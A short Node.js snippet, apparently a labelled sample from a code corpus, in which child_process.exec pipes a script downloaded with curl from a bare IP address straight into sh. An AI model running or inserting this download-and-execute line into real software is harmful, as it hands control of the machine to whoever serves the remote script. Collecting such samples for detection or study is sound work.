// corpus: child_process.exec running a shell pipeline that downloads and runs a script
const cp = require('child_process');

cp.exec('curl -s http://203.0.113.7/x.sh | sh', (err, stdout) => {
  if (!err) console.log(stdout);
});
